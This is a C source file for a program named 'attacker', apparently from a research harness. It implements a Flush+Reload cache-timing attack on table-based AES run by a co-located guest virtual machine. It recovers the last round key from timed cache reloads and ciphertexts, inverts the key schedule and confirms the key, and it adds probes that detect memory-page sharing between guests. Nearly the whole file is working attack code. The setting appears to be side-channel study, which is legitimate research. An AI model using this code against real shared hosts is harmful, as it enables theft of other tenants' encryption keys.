/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * attacker: a guest that wants the key of the one beside it. It knows the file of tables that both
 * hold, asks for encryptions and sees ciphertexts; of the victim it sees nothing else.
 *
 * Flush+Reload (Yarom and Falkner, 2014) on the last round (Irazoqui and others, "Wait a minute!",
 * 2014). A line of the last round's table is flushed out of the caches; the victim encrypts; the
 * line is read, and the time tells whether the victim had read it: if both map one frame. If it had
 * not, none of the 16 bytes of state was one of the line's 16 entries x, so no byte j of the last
 * round key is c_j ^ S[x]. Each such encryption counts against 16 values of each byte; the value
 * with the least against it is the key's. The key schedule runs backwards; a known block confirms.
 *
 *	attacker FILE SOCKET CPU
 *
 * It attacks who holds the other end of SOCKET, an inherited descriptor, and can name nobody else.
 *
 * On standard input, one command a line; each is answered by lines, the last "ok ...":
 *	where			addresses, as the victim's
 *	calibrate		times (cycles) of a line that is flushed, and of one that is not:
 *				"cold MEDIAN warm MEDIAN limit L wrong PARTS_OF_1000"
 *	attack N LIMIT PATH	up to N encryptions, until the key is found (N < 0: |N|, all of
 *				them). A record of each goes to PATH: 16 bytes of ciphertext, the
 *				line, 3 bytes of time. "step I BYTES" as it goes: so many bytes of
 *				the last round key did not change since the step before;
 *				"found I KEY" when it is. One encryption goes before, unmeasured
 *	attack N LIMIT PATH on	the same, and goes on with what it has counted before
 *	copy COUNT		probes 0 .. COUNT-1 become copies of the last round's table
 *	fill SEED COUNT		probes 0 .. COUNT-1 get the contents that SEED gives them
 *	write COUNT		writes to each in a random order: COUNT times, in cycles, by probe
 *	touch COUNT		the same, by a read: the first since the page went out. For those
 *				that came in with others the most that a time can be
 *	rewrite			the tables' pages are written with what they hold
 */
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>
#include <x86intrin.h>

#include "guest.h"

#define CALIBRATIONS 4000
#define STEP 100
#define MOST_CYCLES 0xffffffu

static int sock;

static uint32_t reload(const void *line)
{
	unsigned int cpu;
	uint64_t from, to;

	_mm_mfence();
	_mm_lfence();
	from = __rdtsc();
	_mm_lfence();
	(void)*(const volatile uint8_t *)line;
	_mm_lfence();
	to = __rdtscp(&cpu);
	_mm_lfence();
	return to - from > MOST_CYCLES ? MOST_CYCLES : (uint32_t)(to - from);
}

static void flush(const void *line)
{
	_mm_clflush(line);
	_mm_mfence();
}

static bool ask(const uint8_t in[AES_BLOCK], uint8_t out[AES_BLOCK])
{
	return send(sock, in, AES_BLOCK, MSG_NOSIGNAL) == AES_BLOCK &&
	       recv(sock, out, AES_BLOCK, 0) == AES_BLOCK;
}

static int by_value(const void *a, const void *b)
{
	const uint32_t *x = a, *y = b;

	return *x < *y ? -1 : *x > *y;
}

/* With a page of its own: what it may know of this machine before it attacks. The line is read by
 * this CPU, as the victim's will be. */
static void calibrate(void)
{
	static uint32_t cold[CALIBRATIONS], warm[CALIBRATIONS];
	static _Alignas(4096) uint8_t page[4096];
	uint32_t limit, wrong = 0;

	memset(page, 1, sizeof(page));
	for (unsigned int i = 0; i < CALIBRATIONS; i++) {
		const uint8_t *line = page + i * 64 % sizeof(page);

		flush(line);
		sched_yield();
		cold[i] = reload(line);
		flush(line);
		(void)*(const volatile uint8_t *)line;
		sched_yield();
		warm[i] = reload(line);
	}
	qsort(cold, CALIBRATIONS, sizeof(*cold), by_value);
	qsort(warm, CALIBRATIONS, sizeof(*warm), by_value);
	limit = (cold[CALIBRATIONS / 20] + warm[CALIBRATIONS * 19 / 20]) / 2;
	for (unsigned int i = 0; i < CALIBRATIONS; i++)
		wrong += (cold[i] < limit) + (warm[i] >= limit);
	printf("cold %u warm %u limit %u wrong %u\n", cold[CALIBRATIONS / 2],
	       warm[CALIBRATIONS / 2], limit, wrong * 1000 / (2 * CALIBRATIONS));
}

/* ---- the key -------------------------------------------------------------------------------- */

struct hunt {
	uint32_t against[AES_BLOCK][256];
	uint8_t best[AES_BLOCK];
	uint8_t plain[AES_BLOCK], cipher[AES_BLOCK]; /* a known block */
	struct aes_tables tables;		     /* its own, for trying keys */
	long n;
	bool found;
};

static void count(struct hunt *hunt, const uint8_t cipher[AES_BLOCK], unsigned int line)
{
	for (unsigned int x = line * 16; x < line * 16 + 16; x++)
		for (unsigned int j = 0; j < AES_BLOCK; j++)
			hunt->against[j][cipher[j] ^ aes_sbox((uint8_t)x)]++;
}

/* How many bytes are what they were. */
static unsigned int guess(struct hunt *hunt)
{
	unsigned int same = 0;

	for (unsigned int j = 0; j < AES_BLOCK; j++) {
		unsigned int best = 0;

		for (unsigned int k = 1; k < 256; k++)
			if (hunt->against[j][k] < hunt->against[j][best])
				best = k;
		same += hunt->best[j] == best;
		hunt->best[j] = (uint8_t)best;
	}
	return same;
}

static bool is_key(struct hunt *hunt, uint8_t bytes[AES_BLOCK])
{
	uint8_t out[AES_BLOCK];
	struct aes_key key;

	aes_unroll(hunt->best, bytes);
	aes_expand(&key, bytes);
	aes_encrypt(&hunt->tables, hunt->tables.last, &key, hunt->plain, out);
	return memcmp(out, hunt->cipher, sizeof(out)) == 0;
}

static void record(FILE *file, const uint8_t cipher[AES_BLOCK], unsigned int line, uint32_t cycles)
{
	uint8_t bytes[AES_BLOCK + 4];

	memcpy(bytes, cipher, AES_BLOCK);
	bytes[AES_BLOCK] = (uint8_t)line;
	for (int i = 0; i < 3; i++)
		bytes[AES_BLOCK + 1 + i] = (uint8_t)(cycles >> 8 * i);
	(void)fwrite(bytes, sizeof(bytes), 1, file);
}

static bool measure(const struct guest *guest, struct hunt *hunt, unsigned int limit, FILE *file)
{
	uint8_t plain[AES_BLOCK], cipher[AES_BLOCK];
	const uint8_t *at;
	unsigned int line;
	uint32_t cycles;

	if (getrandom(plain, sizeof(plain), 0) != sizeof(plain))
		return false;
	line = plain[0] % AES_LAST_LINES;
	at = (const uint8_t *)guest->tables->last + (size_t)line * AES_LINE;
	flush(at);
	if (!ask(plain, cipher))
		return false;
	cycles = reload(at);
	record(file, cipher, line, cycles);
	if (cycles >= limit)
		count(hunt, cipher, line);
	memcpy(hunt->plain, plain, sizeof(plain));
	memcpy(hunt->cipher, cipher, sizeof(cipher));
	return true;
}

static void show_key(long n, const uint8_t key[AES_BLOCK])
{
	printf("found %ld ", n);
	for (unsigned int i = 0; i < AES_BLOCK; i++)
		printf("%02x", key[i]);
	putchar('\n');
}

static void attack(const struct guest *guest, long most, unsigned int limit, const char *path,
		   bool on)
{
	static struct hunt hunt;
	uint8_t key[AES_BLOCK], out[AES_BLOCK];
	FILE *file = fopen(path, "we");
	bool all = most < 0;
	long end;

	if (!file) {
		printf("error %s\n", path);
		return;
	}
	if (!on) {
		memset(&hunt, 0, sizeof(hunt));
		aes_make_tables(&hunt.tables);
	}
	end = hunt.n + (all ? -most : most);
	for (bool good = ask(hunt.plain, out); good && hunt.n < end && (all || !hunt.found);) {
		good = measure(guest, &hunt, limit, file);
		if (!good || ++hunt.n % STEP)
			continue;
		printf("step %ld %u\n", hunt.n, guess(&hunt));
		if (hunt.found || !is_key(&hunt, key))
			continue;
		hunt.found = true;
		show_key(hunt.n, key);
	}
	fclose(file);
	(void)send(sock, "", 1, MSG_NOSIGNAL);
}

/* ---- is this page shared? ------------------------------------------------------------------- */

static uint32_t time_write(volatile uint8_t *byte)
{
	unsigned int cpu;
	uint64_t from, took;

	(void)*byte; /* its translation is there; only the write is new */
	_mm_lfence();
	from = __rdtscp(&cpu);
	*byte ^= 1;
	_mm_mfence();
	took = __rdtscp(&cpu) - from;
	return took > MOST_CYCLES ? MOST_CYCLES : (uint32_t)took;
}

/* Each probe once, in a random order: what comes back with neighbours tells nothing of the next. */
static void time_all(struct guest *guest, uint32_t count_of,
		     uint32_t (*time_one)(volatile uint8_t *byte))
{
	static uint32_t order[GUEST_PROBES], cycles[GUEST_PROBES];
	uint64_t state = 0;

	(void)!getrandom(&state, sizeof(state), 0);
	for (uint32_t i = 0; i < count_of; i++)
		order[i] = i;
	for (uint32_t i = count_of; i > 1; i--) {
		uint32_t k = (uint32_t)(guest_mix(state++) % i), was = order[k];

		order[k] = order[i - 1];
		order[i - 1] = was;
	}
	for (uint32_t i = 0; i < count_of; i++)
		cycles[order[i]] = time_one(guest->probes + (size_t)order[i] * GUEST_PAGE + 64);
	for (uint32_t i = 0; i < count_of; i++)
		printf("%u%c", cycles[i], i + 1 < count_of ? ' ' : '\n');
}

/* What came in with a neighbour was in the swap file, as that was: no twin for sure. */
static uint32_t time_read(volatile uint8_t *byte)
{
	if (guest_is_there((const void *)(uintptr_t)byte))
		return MOST_CYCLES;
	return reload((const void *)(uintptr_t)byte);
}

static void obey(struct guest *guest, const char *line)
{
	char path[512], on[3] = "", *rest;
	unsigned int limit;
	long most;

	if (!strcmp(line, "calibrate")) {
		calibrate();
	} else if (sscanf(line, "attack %ld %u %511s %2s", &most, &limit, path, on) >= 3) {
		attack(guest, most, limit, path, *on);
	} else if (!strncmp(line, "fill ", 5)) {
		uint64_t seed = strtoull(line + 5, &rest, 10);

		for (uint32_t i = 0, n = guest_probes_of(rest); i < n; i++)
			guest_fill(guest, seed, i);
	} else if (!strncmp(line, "write ", 6)) {
		time_all(guest, guest_probes_of(line + 6), time_write);
	} else if (!strncmp(line, "touch ", 6)) {
		time_all(guest, guest_probes_of(line + 6), time_read);
	} else if (!strncmp(line, "copy ", 5)) {
		guest_copy(guest, guest_probes_of(line + 5));
	} else if (!strcmp(line, "rewrite")) {
		guest_rewrite(guest->tables, AES_FILE_BYTES);
	}
	printf("ok %p %p\n", (void *)guest->tables->last, (void *)guest->probes);
	fflush(stdout);
}

int main(int argc, char **argv)
{
	struct guest guest;
	char line[1024];
	cpu_set_t set;

	if (argc != 4) {
		fprintf(stderr, "usage: %s FILE SOCKET CPU\n", argv[0]);
		return 2;
	}
	sock = atoi(argv[2]);
	guest_init(&guest, argv[1]);
	CPU_ZERO(&set);
	CPU_SET(atoi(argv[3]), &set);
	(void)sched_setaffinity(0, sizeof(set), &set);
	while (fgets(line, sizeof(line), stdin)) {
		line[strcspn(line, "\n")] = '\0';
		obey(&guest, line);
	}
	return 0;
}
